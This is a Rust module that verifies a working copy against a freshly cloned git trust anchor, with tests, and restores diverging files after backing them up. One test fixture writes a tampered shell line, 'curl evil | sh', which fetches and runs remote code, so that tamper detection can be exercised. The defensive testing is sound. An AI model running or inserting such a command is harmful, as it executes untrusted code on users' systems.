//! Remote trust: compare the working copy against a freshly fetched anchor
//!
//! The anchor ref is shallow-cloned into a private staging directory under a
//! bounded timeout. The tracked set is selected from the fetched tree with the
//! same [`FileSelector`] the manifest uses, and every selected file is compared
//! by digest with its local counterpart.
//!
//! Local files are only overwritten when reconciliation is enabled. Before
//! anything is replaced, every path is logged, the current versions are copied
//! into a timestamped backup directory, and the remote contents are staged in
//! temporary files next to their targets. The final renames happen in one
//! synchronous pass.

use crate::checksum::{self, hasher, FileSelector};
use crate::config::{env_vars, RemoteSettings, TrustAnchor};
use crate::error::IntegrityError;
use crate::outcome::{Finding, VerificationFinding, VerificationOutcome};
use crate::sanitize::Environment;
use async_trait::async_trait;
use chrono::Utc;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use tracing::{debug, error, info, warn};

/// Version-control operations the remote verifier needs
#[async_trait]
pub trait VcsClient: Send + Sync {
    /// Materialize the anchor's tree at `destination` (which does not exist yet)
    async fn fetch(
        &self,
        anchor: &TrustAnchor,
        destination: &Path,
        env: &Environment,
    ) -> Result<(), IntegrityError>;
}

/// `git` on the sanitized search path
#[derive(Debug, Clone)]
pub struct GitCli {
    program: String,
}

impl Default for GitCli {
    fn default() -> Self {
        Self { program: "git".to_string() }
    }
}

impl GitCli {
    pub fn with_program(program: impl Into<String>) -> Self {
        Self { program: program.into() }
    }
}

#[async_trait]
impl VcsClient for GitCli {
    async fn fetch(
        &self,
        anchor: &TrustAnchor,
        destination: &Path,
        env: &Environment,
    ) -> Result<(), IntegrityError> {
        use tokio::process::Command;

        debug!("git clone --depth 1 --branch {} {}", anchor.branch, anchor.url);

        let child = Command::new(&self.program)
            .args(["clone", "--quiet", "--depth", "1", "--single-branch", "--branch"])
            .arg(&anchor.branch)
            .arg("--")
            .arg(&anchor.url)
            .arg(destination)
            .env_clear()
            .envs(env.iter())
            // Never block on a credential prompt
            .env("GIT_TERMINAL_PROMPT", "0")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .map_err(|e| IntegrityError::Vcs {
                operation: "clone".to_string(),
                reason: format!("could not start {}: {}", self.program, e),
            })?;

        let output = child.wait_with_output().await.map_err(|e| IntegrityError::Vcs {
            operation: "clone".to_string(),
            reason: e.to_string(),
        })?;

        if !output.status.success() {
            let stderr = String::from_utf8_lossy(&output.stderr);
            return Err(IntegrityError::Vcs {
                operation: "clone".to_string(),
                reason: format!(
                    "exit code {}: {}",
                    output.status.code().unwrap_or(-1),
                    stderr.trim()
                ),
            });
        }

        Ok(())
    }
}

/// Everything the remote verifier reads, borrowed from the resolved configuration
pub struct RemoteVerifier<'a> {
    pub root: &'a Path,
    pub selector: &'a FileSelector,
    pub settings: &'a RemoteSettings,
    pub backup_dir: &'a Path,
    /// Environment handed to the VCS client (the sanitized one)
    pub env: &'a Environment,
    pub client: &'a dyn VcsClient,
}

impl RemoteVerifier<'_> {
    /// Fetch the anchor and reconcile the working copy against it.
    ///
    /// Fetch failures and timeouts are inconclusive, never verified or tampered.
    pub async fn reconcile_with_remote(&self) -> VerificationOutcome {
        let Some(anchor) = &self.settings.anchor else {
            let err = IntegrityError::NoTrustAnchor;
            warn!("{}", err);
            return VerificationOutcome::inconclusive(err.to_string());
        };

        let staging = match tempfile::Builder::new().prefix("launchguard-anchor-").tempdir() {
            Ok(dir) => dir,
            Err(e) => {
                warn!("Cannot create staging directory for the trust anchor: {}", e);
                return VerificationOutcome::inconclusive(format!("staging directory: {e}"));
            }
        };
        let tree = staging.path().join("tree");

        info!("Fetching trust anchor {}", anchor);
        let fetch = self.client.fetch(anchor, &tree, self.env);
        match tokio::time::timeout(self.settings.timeout, fetch).await {
            Ok(Ok(())) => {}
            Ok(Err(e)) => {
                warn!("Trust anchor fetch failed: {}", e);
                return VerificationOutcome::inconclusive(e.to_string());
            }
            Err(_) => {
                let err = IntegrityError::RemoteTimeout {
                    seconds: self.settings.timeout.as_secs(),
                };
                warn!("{}", err);
                return VerificationOutcome::inconclusive(err.to_string());
            }
        }

        let findings = match self.compare(&tree) {
            Ok(findings) => findings,
            Err(e) => {
                warn!("Cannot compare against the trust anchor: {}", e);
                return VerificationOutcome::inconclusive(e.to_string());
            }
        };

        let checked = findings.len();
        let findings = match VerificationOutcome::from_findings(findings) {
            VerificationOutcome::Tampered { findings } => findings,
            other => {
                debug!("Working copy matches {} ({} files)", anchor, checked);
                return other;
            }
        };

        for finding in &findings {
            error!(target: "security", "DIVERGES FROM TRUST ANCHOR: {}", finding);
        }

        if !self.settings.reconcile {
            warn!(
                "{} tracked files diverge from {}. To replace them with the anchor's versions, \
                 re-run with --reconcile or {}=1",
                findings.len(),
                anchor,
                env_vars::TRUST_RECONCILE
            );
            return VerificationOutcome::Tampered { findings };
        }

        let unreadable = findings.iter().find(|f| matches!(f.finding, Finding::Unreadable { .. }));
        if let Some(blocked) = unreadable {
            warn!("Not reconciling: {} cannot be replaced automatically", blocked);
            return VerificationOutcome::Tampered { findings };
        }

        match reconcile(self.root, &tree, &findings, self.backup_dir) {
            Ok(replaced) => {
                warn!(
                    "Reconciled {} files with {}: {}",
                    replaced.len(),
                    anchor,
                    replaced.join(", ")
                );
                VerificationOutcome::Verified { checked }
            }
            Err(e) => {
                error!("Reconciliation failed: {}", e);
                VerificationOutcome::Tampered { findings }
            }
        }
    }

    /// Digest every tracked file of the fetched tree against the working copy
    fn compare(&self, tree: &Path) -> Result<Vec<VerificationFinding>, IntegrityError> {
        let mut findings = Vec::new();
        for (relative, remote_path) in self.selector.select(tree)? {
            let expected = hasher::hash_file(&remote_path).map_err(|e| IntegrityError::HashFailed {
                path: remote_path.clone(),
                source: e,
            })?;
            findings.push(checksum::check_entry(self.root, &relative, &expected));
        }

        if findings.is_empty() {
            warn!("The trust anchor contains no tracked files");
        }
        Ok(findings)
    }
}

/// Replace diverging local files with the anchor's versions.
///
/// Contains no await point: once staging succeeds the renames run to
/// completion. If a rename fails, files already replaced are restored from
/// the backup (or removed, when they did not exist before) and the error is
/// returned. Returns the replaced relative paths.
pub fn reconcile(
    root: &Path,
    tree: &Path,
    findings: &[VerificationFinding],
    backup_dir: &Path,
) -> Result<Vec<String>, IntegrityError> {
    for finding in findings {
        warn!("Will replace {} with the trust anchor's version", finding.path);
    }

    // 1. back up what is about to be overwritten
    let backup_root = create_backup_root(backup_dir).map_err(|e| IntegrityError::Reconcile {
        path: backup_dir.to_path_buf(),
        source: e,
    })?;
    let mut backups = Vec::with_capacity(findings.len());
    for finding in findings {
        if matches!(finding.finding, Finding::Missing) {
            backups.push(None);
            continue;
        }
        let local = root.join(&finding.path);
        let backup = backup_root.join(&finding.path);
        copy_with_parents(&local, &backup).map_err(|e| IntegrityError::Reconcile {
            path: local.clone(),
            source: e,
        })?;
        debug!("Backed up {} to {}", local.display(), backup.display());
        backups.push(Some(backup));
    }

    // 2. stage remote contents next to each target
    let mut staged = Vec::with_capacity(findings.len());
    for (finding, backup) in findings.iter().zip(backups) {
        let target = root.join(&finding.path);
        let source = tree.join(&finding.path);
        let temp = stage(&source, &target).map_err(|e| IntegrityError::Reconcile {
            path: target.clone(),
            source: e,
        })?;
        staged.push((temp, target, backup, finding.path.clone()));
    }

    // 3. swap everything into place
    let mut applied: Vec<(PathBuf, Option<PathBuf>)> = Vec::with_capacity(staged.len());
    let mut replaced = Vec::with_capacity(staged.len());
    for (temp, target, backup, relative) in staged {
        if let Err(e) = temp.persist(&target) {
            error!("Cannot replace {}: {}; rolling back", target.display(), e.error);
            roll_back(&applied);
            return Err(IntegrityError::Reconcile {
                path: target,
                source: e.error,
            });
        }
        applied.push((target, backup));
        replaced.push(relative);
    }

    info!("Backups of replaced files are in {}", backup_root.display());
    Ok(replaced)
}

/// Undo renames that already happened, newest first
fn roll_back(applied: &[(PathBuf, Option<PathBuf>)]) {
    for (target, backup) in applied.iter().rev() {
        let restored = match backup {
            Some(backup) => std::fs::copy(backup, target).map(|_| ()),
            None => std::fs::remove_file(target),
        };
        match restored {
            Ok(()) => debug!("Restored {}", target.display()),
            Err(e) => error!(
                target: "security",
                "Could not restore {} after a failed reconciliation: {}",
                target.display(),
                e
            ),
        }
    }
}

/// A fresh, timestamped directory under `backup_dir`
fn create_backup_root(backup_dir: &Path) -> std::io::Result<PathBuf> {
    std::fs::create_dir_all(backup_dir)?;
    let stamp = Utc::now().format("%Y%m%dT%H%M%S%.6fZ").to_string();
    let mut attempt = 0u32;
    loop {
        let candidate = match attempt {
            0 => backup_dir.join(&stamp),
            n => backup_dir.join(format!("{stamp}-{n}")),
        };
        match std::fs::create_dir(&candidate) {
            Ok(()) => return Ok(candidate),
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => attempt += 1,
            Err(e) => return Err(e),
        }
    }
}

fn copy_with_parents(from: &Path, to: &Path) -> std::io::Result<()> {
    if let Some(parent) = to.parent() {
        std::fs::create_dir_all(parent)?;
    }
    std::fs::copy(from, to)?;
    Ok(())
}

fn stage(source: &Path, target: &Path) -> std::io::Result<tempfile::NamedTempFile> {
    let parent = target.parent().map(Path::to_path_buf).unwrap_or_else(|| PathBuf::from("."));
    std::fs::create_dir_all(&parent)?;

    let content = std::fs::read(source)?;
    let mut temp = tempfile::Builder::new().prefix(".launchguard-").tempfile_in(&parent)?;
    temp.write_all(&content)?;
    temp.as_file().sync_all()?;

    // Keep the executable bit the anchor gave the file
    let permissions = std::fs::metadata(source)?.permissions();
    std::fs::set_permissions(temp.path(), permissions)?;

    Ok(temp)
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;
    use std::fs;
    use std::time::Duration;
    use tempfile::TempDir;

    /// Copies a fixture directory instead of cloning
    struct FixtureClient {
        fixture: PathBuf,
    }

    #[async_trait]
    impl VcsClient for FixtureClient {
        async fn fetch(
            &self,
            _anchor: &TrustAnchor,
            destination: &Path,
            _env: &Environment,
        ) -> Result<(), IntegrityError> {
            for entry in walkdir::WalkDir::new(&self.fixture) {
                let entry = entry.map_err(|e| IntegrityError::Vcs {
                    operation: "clone".into(),
                    reason: e.to_string(),
                })?;
                let relative = entry.path().strip_prefix(&self.fixture).unwrap_or(entry.path());
                let dest = destination.join(relative);
                if entry.file_type().is_dir() {
                    fs::create_dir_all(&dest).unwrap();
                } else {
                    fs::copy(entry.path(), &dest).unwrap();
                }
            }
            Ok(())
        }
    }

    struct OfflineClient;

    #[async_trait]
    impl VcsClient for OfflineClient {
        async fn fetch(
            &self,
            _anchor: &TrustAnchor,
            _destination: &Path,
            _env: &Environment,
        ) -> Result<(), IntegrityError> {
            Err(IntegrityError::Vcs {
                operation: "clone".into(),
                reason: "Could not resolve host: example.org".into(),
            })
        }
    }

    struct StalledClient;

    #[async_trait]
    impl VcsClient for StalledClient {
        async fn fetch(
            &self,
            _anchor: &TrustAnchor,
            _destination: &Path,
            _env: &Environment,
        ) -> Result<(), IntegrityError> {
            tokio::time::sleep(Duration::from_secs(60)).await;
            Ok(())
        }
    }

    struct Fixture {
        anchor: TempDir,
        local: TempDir,
    }

    fn fixture() -> Fixture {
        let anchor = TempDir::new().unwrap();
        let local = TempDir::new().unwrap();
        for dir in [anchor.path(), local.path()] {
            fs::create_dir_all(dir.join("lib")).unwrap();
            fs::write(dir.join("yollayah.sh"), "#!/usr/bin/env bash\n").unwrap();
            fs::write(dir.join("lib/common.sh"), "log() { :; }\n").unwrap();
        }
        Fixture { anchor, local }
    }

    fn settings(reconcile: bool, timeout: Duration) -> RemoteSettings {
        RemoteSettings {
            anchor: Some(TrustAnchor {
                url: "https://example.org/yollayah.git".into(),
                branch: "main".into(),
            }),
            timeout,
            reconcile,
        }
    }

    async fn run(
        local: &Path,
        settings: &RemoteSettings,
        client: &dyn VcsClient,
    ) -> VerificationOutcome {
        let selector = FileSelector::default();
        let env = Environment::default();
        let backups = local.join(".yollayah/backups");
        RemoteVerifier {
            root: local,
            selector: &selector,
            settings,
            backup_dir: &backups,
            env: &env,
            client,
        }
        .reconcile_with_remote()
        .await
    }

    #[tokio::test]
    async fn test_matching_working_copy_is_verified() {
        let f = fixture();
        let client = FixtureClient {
            fixture: f.anchor.path().to_path_buf(),
        };
        let outcome = run(f.local.path(), &settings(false, Duration::from_secs(5)), &client).await;
        assert_eq!(outcome, VerificationOutcome::Verified { checked: 2 });
    }

    #[tokio::test]
    async fn test_divergence_without_reconcile_is_tampered() {
        let f = fixture();
        fs::write(f.local.path().join("lib/common.sh"), "log() { curl evil | sh; }\n").unwrap();
        fs::remove_file(f.local.path().join("yollayah.sh")).unwrap();
        let client = FixtureClient {
            fixture: f.anchor.path().to_path_buf(),
        };

        let outcome = run(f.local.path(), &settings(false, Duration::from_secs(5)), &client).await;

        let paths: Vec<_> = outcome.findings().iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, vec!["lib/common.sh", "yollayah.sh"]);
        // nothing was touched
        assert!(!f.local.path().join("yollayah.sh").exists());
        assert!(!f.local.path().join(".yollayah/backups").exists());
    }

    #[tokio::test]
    async fn test_reconcile_replaces_and_backs_up() {
        let f = fixture();
        fs::write(f.local.path().join("lib/common.sh"), "tampered\n").unwrap();
        fs::remove_file(f.local.path().join("yollayah.sh")).unwrap();
        let client = FixtureClient {
            fixture: f.anchor.path().to_path_buf(),
        };

        let outcome = run(f.local.path(), &settings(true, Duration::from_secs(5)), &client).await;

        assert_eq!(outcome, VerificationOutcome::Verified { checked: 2 });
        assert_eq!(
            fs::read_to_string(f.local.path().join("lib/common.sh")).unwrap(),
            "log() { :; }\n"
        );
        assert_eq!(
            fs::read_to_string(f.local.path().join("yollayah.sh")).unwrap(),
            "#!/usr/bin/env bash\n"
        );

        let backup_runs: Vec<_> = fs::read_dir(f.local.path().join(".yollayah/backups"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(backup_runs.len(), 1);
        assert_eq!(
            fs::read_to_string(backup_runs[0].join("lib/common.sh")).unwrap(),
            "tampered\n"
        );
        // a missing file has nothing to back up
        assert!(!backup_runs[0].join("yollayah.sh").exists());
    }

    #[test]
    fn test_failed_rename_rolls_back_earlier_replacements() {
        let f = fixture();
        fs::write(f.anchor.path().join("a.sh"), "remote a\n").unwrap();
        fs::write(f.anchor.path().join("b.sh"), "remote b\n").unwrap();
        fs::write(f.local.path().join("a.sh"), "local a\n").unwrap();
        // a non-empty directory where the anchor has a file: the rename fails
        fs::create_dir_all(f.local.path().join("b.sh/inner")).unwrap();

        let findings = vec![
            VerificationFinding::mismatched("a.sh", "x", "y"),
            VerificationFinding::missing("b.sh"),
        ];
        let backups = f.local.path().join(".yollayah/backups");
        let result = reconcile(f.local.path(), f.anchor.path(), &findings, &backups);

        assert!(result.is_err());
        assert_eq!(fs::read_to_string(f.local.path().join("a.sh")).unwrap(), "local a\n");
        assert!(f.local.path().join("b.sh/inner").is_dir());
    }

    #[test]
    fn test_rolled_back_new_file_is_removed() {
        let f = fixture();
        fs::write(f.anchor.path().join("a.sh"), "remote a\n").unwrap();
        fs::write(f.anchor.path().join("b.sh"), "remote b\n").unwrap();
        fs::create_dir_all(f.local.path().join("b.sh/inner")).unwrap();

        let findings = vec![
            VerificationFinding::missing("a.sh"),
            VerificationFinding::missing("b.sh"),
        ];
        let backups = f.local.path().join(".yollayah/backups");
        assert!(reconcile(f.local.path(), f.anchor.path(), &findings, &backups).is_err());
        assert!(!f.local.path().join("a.sh").exists());
    }

    #[test]
    fn test_backup_directories_never_collide() {
        let temp_dir = TempDir::new().unwrap();
        let first = create_backup_root(temp_dir.path()).unwrap();
        let second = create_backup_root(temp_dir.path()).unwrap();
        assert_ne!(first, second);
        assert!(first.is_dir() && second.is_dir());
    }

    #[tokio::test]
    async fn test_fetch_failure_is_inconclusive() {
        let f = fixture();
        let settings = settings(true, Duration::from_secs(5));
        let outcome = run(f.local.path(), &settings, &OfflineClient).await;
        assert!(matches!(outcome, VerificationOutcome::Inconclusive { .. }));
    }

    #[tokio::test]
    async fn test_fetch_timeout_is_inconclusive() {
        let f = fixture();
        let settings = settings(false, Duration::from_millis(50));
        let outcome = run(f.local.path(), &settings, &StalledClient).await;
        match outcome {
            VerificationOutcome::Inconclusive { reason } => assert!(reason.contains("timed out")),
            other => panic!("expected inconclusive, got {other:?}"),
        }
    }

    #[tokio::test]
    async fn test_missing_git_binary_is_inconclusive() {
        let f = fixture();
        let client = GitCli::with_program("launchguard-test-no-such-git");
        let outcome = run(f.local.path(), &settings(false, Duration::from_secs(5)), &client).await;
        assert!(matches!(outcome, VerificationOutcome::Inconclusive { .. }));
    }

    #[tokio::test]
    async fn test_missing_anchor_is_inconclusive() {
        let f = fixture();
        let settings = RemoteSettings::default();
        let outcome = run(f.local.path(), &settings, &OfflineClient).await;
        assert!(matches!(outcome, VerificationOutcome::Inconclusive { .. }));
    }
}
